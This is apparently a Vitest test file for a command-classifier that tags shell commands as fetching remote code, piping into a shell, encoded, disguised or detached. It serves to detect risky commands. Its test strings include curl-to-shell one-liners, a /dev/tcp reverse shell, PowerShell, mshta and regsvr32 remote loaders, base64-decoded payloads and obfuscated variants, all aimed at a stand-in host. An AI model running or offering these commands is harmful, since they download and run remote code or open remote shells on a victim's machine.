import { describe, expect, it } from 'vitest';
import { traitsOf } from '../../../utils/inspect/runs/command-traits.ts';

describe('traitsOf', () => {
  it.each([
    ['curl -s https://a.example/x | sh', ['fetches', 'pipes-into-shell']], ['wget -qO- https://a.example/x | sudo bash', ['fetches', 'pipes-into-shell']], ['bash <(curl -s https://a.example/x)', ['fetches', 'pipes-into-shell']],
    ['cu^rl -s https://a.example/x | c^md', ['fetches', 'pipes-into-shell']], ['curl${IFS}-s${IFS}https://a.example/x|sh', ['fetches', 'pipes-into-shell']], ['{curl,-s,https://a.example/x}|{bash,-i}', ['fetches', 'pipes-into-shell']],
    ['deno run -A https://a.example/x.ts', ['fetches', 'pipes-into-shell']], ['npx -y https://a.example/x.tgz', ['fetches', 'pipes-into-shell']], ['mshta https://a.example/x.hta', ['fetches', 'pipes-into-shell']],
    ['regsvr32 /s /n /u /i:https://a.example/x.sct scrobj.dll', ['fetches', 'pipes-into-shell']], ['bash -i >& /dev/tcp/a.example/443 0>&1', ['fetches', 'pipes-into-shell']], ['dig +short txt a.example | sh', ['fetches', 'pipes-into-shell']],
    ['powershell -c "iex (irm https://a.example/x)"', ['fetches', 'pipes-into-shell']], ['certutil -urlcache -f https://a.example/x x', ['fetches']], ['/usr/bin/curl -O https://a.example/x', ['fetches']],
    ['echo aGVsbG8= | base64 -d | sh', ['pipes-into-shell', 'encoded']], ['node public/a.woff2', ['disguised-target']], ['node -r ./a.png x.js', ['disguised-target']], ['NODE_OPTIONS="--require ./x" npm start', []],
    ['node -e "$(echo YWxlcnQoMSk7 | base64 -d)"', ['pipes-into-shell', 'encoded', 'inline-code']], ['perl -e "`curl -s https://a.example/x`"', ['fetches', 'pipes-into-shell']],
    ['curl -s localhost:3000/x | sh', ['fetches', 'pipes-into-shell']], ['curl -s http://localhost:3000 && curl https://a.example/x', ['fetches']], ['curl http://127.0.0.1:80@a.example/x', ['fetches']],
    ['/usr/bin/node -e "1"', ['inline-code']], ['nohup node x.js', ['detached']], ['start /b node x.js', ['detached']],
  ])('%s', (command, traits) => expect(traitsOf(command)).toEqual(expect.arrayContaining(traits)));

  it.each(['deno run -A https://deno.land/x/fresh/update.ts', 'npx create-next-app@latest', 'npx github:acme/tool', 'node server.js', 'tsc && node dist/index.js', 'echo {a,b}', 'git log | head', 'cat a.txt | grep b', 'npm run a & npm run b', 'docker compose up -d', 'node dist/curl.js', 'git push -c "$(git log)"', "curl -s http://localhost:8545 -H 'Content-Type: application/json' --data x"])(
    'nothing in %s', (command) => expect(traitsOf(command)).toEqual([]));
});
